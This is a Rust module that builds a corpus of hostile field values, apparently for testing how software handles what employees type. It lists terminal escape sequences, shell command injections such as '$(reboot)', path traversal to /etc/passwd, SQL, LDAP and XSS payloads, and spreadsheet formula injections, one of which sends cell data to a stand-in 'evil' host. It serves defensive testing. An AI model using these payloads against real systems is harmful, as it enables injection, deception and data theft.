//! Values that an employee may set to act on a terminal, to deceive its reader, or to break what reads them next.

/// Control characters, those that change the direction of writing, and those that begin a line.
pub(crate) fn acts_on_a_terminal(character: char) -> bool {
    character.is_control()
        || matches!(
            character,
            '\u{61c}' | '\u{200e}' | '\u{200f}' | '\u{2028}'..='\u{202e}' | '\u{2066}'..='\u{2069}'
        )
}

/// Characters that hide in a name, and are not drawn at all.
const UNSEEN: [char; 14] = [
    '\u{ad}',
    '\u{34f}',
    '\u{115f}',
    '\u{180e}',
    '\u{200b}',
    '\u{2060}',
    '\u{2063}',
    '\u{206f}',
    '\u{3164}',
    '\u{feff}',
    '\u{ffa0}',
    '\u{fff9}',
    '\u{e0001}',
    '\u{e007f}',
];

/// What begins a sequence that a terminal obeys (ECMA-48), by escape and as one character of C1.
const SEQUENCES: [&str; 36] = [
    "\u{1b}[2J",
    "\u{1b}[1;1H",
    "\u{1b}[31m",
    "\u{1b}[?1049h",
    "\u{1b}[6n",
    "\u{1b}[5i",
    "\u{1b}[8m",
    "\u{1b}]0;title\u{7}",
    "\u{1b}]52;c;cm0gLXJm\u{7}",
    "\u{1b}]8;;http://evil/\u{1b}\\x",
    "\u{1b}]1337;File=:eA==\u{7}",
    "\u{1b}]50;?\u{7}",
    "\u{1b}P+q544e\u{1b}\\",
    "\u{1b}P0;1|17/ab\u{1b}\\",
    "\u{1b}_Gf=24;x\u{1b}\\",
    "\u{1b}^pm\u{1b}\\",
    "\u{1b}Xsos\u{1b}\\",
    "\u{1b}c",
    "\u{1b}#8",
    "\u{1b}(0",
    "\u{1b}7\u{1b}8",
    "\u{1b}D",
    "\u{1b}M",
    "\u{1b}Z",
    "\u{9b}2J",
    "\u{9b}31m",
    "\u{9d}0;title\u{9c}",
    "\u{90}q\u{9c}",
    "\u{9f}a\u{9c}",
    "\u{9e}p\u{9c}",
    "\u{98}s\u{9c}",
    "\u{85}next",
    "\u{84}x",
    "\u{8d}x",
    "a\u{8}\u{8}b",
    "safe\rEVIL",
];

/// What means something to whoever reads it next: a shell, a database, a directory, a page, a spreadsheet.
const MEANINGS: [&str; 48] = [
    "--help",
    "-v",
    "-rf",
    "--config=/etc/passwd",
    "--",
    "-",
    "@/etc/passwd",
    "$(reboot)",
    "`reboot`",
    "; reboot",
    "| tee",
    "&& x",
    "> /tmp/x",
    "$HOME",
    "%n%n%s",
    "{}",
    "{0}",
    "../../etc/passwd",
    "NUL:",
    "'; DROP TABLE users; --",
    "' OR '1'='1",
    "\" OR 1=1 --",
    "1; DELETE FROM users",
    "x' UNION SELECT 1",
    "*",
    "*)(uid=*",
    "*))(|(cn=*",
    "(|(a=b)",
    "\\2a",
    "a\\",
    "\\00",
    "CN=a,DC=b",
    "a,b;c+d=e<f>g#h\"i",
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "&lt;b&gt;",
    "\"onmouseover=\"x",
    "]]>",
    "javascript:alert(1)",
    "=1+1",
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(A1)",
    "=HYPERLINK(\"http://evil/\"&A1,\"x\")",
    "＝1＋1",
    "null",
    "\",\"username\":\"root\"",
];

/// What is odd in itself.
fn oddities() -> Vec<String> {
    let mut odd: Vec<String> = [
        " ",
        "  leading",
        "trailing  ",
        "a  b",
        "\u{a0}",
        "\u{3000}",
        "ａｄｍｉｎ",
        "аdmin",
        "ﬁ",
        "ß",
        "İ",
        "ı",
        "\u{fffe}",
        "\u{ffff}",
        "\u{10ffff}",
        "\u{e000}",
        "\u{fffd}",
        "👩‍💻",
        "👨‍👩‍👧‍👦",
        "🏴\u{e0067}\u{e007f}",
        "﷽",
        "𒐫",
        "a\u{20e3}",
        "\u{301}",
        "\u{200d}",
        "\u{fe0f}",
    ]
    .map(str::to_owned)
    .to_vec();
    for mark in [
        '\u{301}', '\u{489}', '\u{20dd}', '\u{e31}', '\u{5b0}', '\u{1dc0}', '\u{fe00}',
    ] {
        odd.push(format!("e{}x", mark.to_string().repeat(500)));
    }
    for unseen in ['\u{200b}', '\u{200d}', '\u{2060}', '\u{feff}', '\u{e0020}'] {
        odd.push(format!("a{}b", unseen.to_string().repeat(500)));
    }
    for long in ["x", "W ", "漢", "=", "\u{202e}", "\u{1b}"] {
        odd.push(long.repeat(1000 / long.chars().count()));
    }
    odd
}

/// All of them, each another one, none longer than a field may be.
pub(crate) fn values() -> Vec<String> {
    let controls = (0..=0x9f_u8).map(char::from).filter(|it| it.is_control());
    let directions = ('\u{200e}'..='\u{206f}').filter(|it| acts_on_a_terminal(*it));
    let mut values: Vec<String> = controls
        .chain(directions)
        .chain(['\u{61c}'])
        .chain(UNSEEN)
        .map(|character| format!("a{character}b"))
        .collect();
    values.extend(
        [
            "\t=1",
            "\r=1",
            "\n=1",
            "\u{202e}gpj.exe",
            "\u{2066}a\u{2067}b",
        ]
        .map(str::to_owned),
    );
    values.extend(SEQUENCES.map(str::to_owned));
    values.extend(MEANINGS.map(str::to_owned));
    values.extend(oddities());
    assert!(values.len() >= 200, "{} values are too few", values.len());
    values
}
